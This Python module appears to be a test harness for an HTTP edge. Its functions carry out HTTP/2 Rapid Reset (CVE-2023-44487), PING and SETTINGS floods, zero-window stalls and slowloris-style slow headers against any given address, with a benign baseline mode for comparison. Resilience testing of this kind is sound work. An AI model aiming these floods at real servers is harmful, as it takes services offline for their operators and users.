"""Peers that abuse HTTP at an edge, each in its own way: `python -m support.abuse ADDRESS WAY CONNECTIONS` until it is
killed. Prints how often it had to connect anew, once a second.
"""

from __future__ import annotations

import asyncio
import sys
from collections.abc import Awaitable, Callable
from contextlib import suppress

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
SETTINGS, HEADERS, RESET, PING, WINDOW_UPDATE = 4, 1, 3, 6, 8
END = 0x5  # of the headers and of the stream


def frame(kind: int, flags: int = 0, stream: int = 0, payload: bytes = b"") -> bytes:
    """An HTTP/2 frame (RFC 9113, 4.1)."""
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def get(path: str, authority: str) -> bytes:
    """Headers of a GET in HPACK, nothing indexed."""
    return b"\x82\x86" + b"".join(
        bytes([index, len(text)]) + text.encode() for index, text in ((0x04, path), (0x01, authority))
    )


class Abuse:
    """Connections that misbehave in one way, opened again whenever the edge closes them."""

    def __init__(self, address: str) -> None:
        self.address = address
        self.connections = 0

    async def connection(self, misbehave: Callable[[asyncio.StreamWriter], Awaitable[None]]) -> None:
        """Misbehave on connections, one after the other, for ever."""
        host, _, port = self.address.rpartition(":")
        while True:
            with suppress(OSError):
                reader, writer = await asyncio.open_connection(host, int(port))
                self.connections += 1
                misbehaving = asyncio.ensure_future(misbehave(writer))
                with suppress(OSError):
                    while await reader.read(65536):
                        pass
                misbehaving.cancel()
                writer.close()
            await asyncio.sleep(0.5)

    async def rapid_reset(self, writer: asyncio.StreamWriter) -> None:
        """Ask and take it back, thousands of times (CVE-2023-44487)."""
        writer.write(PREFACE + frame(SETTINGS))
        ask = get("/v1/users/nobody", self.address)
        for stream in range(1, 20_001, 2):
            writer.write(frame(HEADERS, END, stream, ask) + frame(RESET, 0, stream, b"\0\0\0\x08"))
            if stream % 100 == 1:
                await writer.drain()
                await asyncio.sleep(0.01)

    async def ping_flood(self, writer: asyncio.StreamWriter) -> None:
        """Ping, ten thousand times a second."""
        await self._flood(writer, frame(PING, 0, 0, b"12345678"))

    async def settings_flood(self, writer: asyncio.StreamWriter) -> None:
        """Change settings all the time."""
        await self._flood(writer, frame(SETTINGS))

    async def _flood(self, writer: asyncio.StreamWriter, one: bytes) -> None:
        writer.write(PREFACE + frame(SETTINGS))
        while True:
            writer.write(one * 100)
            await writer.drain()
            await asyncio.sleep(0.01)

    async def zero_window(self, writer: asyncio.StreamWriter) -> None:
        """Ask for the largest pages and take nothing."""
        await self._pages(writer, b"\0\0\0\0")

    async def readers(self, writer: asyncio.StreamWriter) -> None:
        """Ask for the same pages as often, and take them: no abuse, but what `zero_window` is compared with."""
        await self._pages(writer, b"\x7f\xff\xff\xff")

    async def _pages(self, writer: asyncio.StreamWriter, window: bytes) -> None:
        writer.write(PREFACE + frame(SETTINGS, 0, 0, b"\0\x04" + window) + frame(WINDOW_UPDATE, 0, 0, b"\x7f\0\0\0"))
        ask = get("/v1/users?page_size=1000", self.address)
        for stream in range(1, 101, 2):
            writer.write(frame(HEADERS, END, stream, ask))
            await writer.drain()
            await asyncio.sleep(0.5)

    async def slow_headers(self, writer: asyncio.StreamWriter) -> None:
        """Send a request for a minute, byte by byte."""
        writer.write(b"GET /v1/users HTTP/1.1\r\nhost: x\r\nx-slow: ")
        for _ in range(600):
            writer.write(b"a")
            await writer.drain()
            await asyncio.sleep(0.1)


async def _main(address: str, way: str, connections: int) -> None:
    abuse = Abuse(address)
    async with asyncio.TaskGroup() as group:
        for _ in range(connections):
            group.create_task(abuse.connection(getattr(abuse, way)))
        while True:
            await asyncio.sleep(1)
            print(abuse.connections, flush=True)


if __name__ == "__main__":
    asyncio.run(_main(sys.argv[1], sys.argv[2], int(sys.argv[3])))
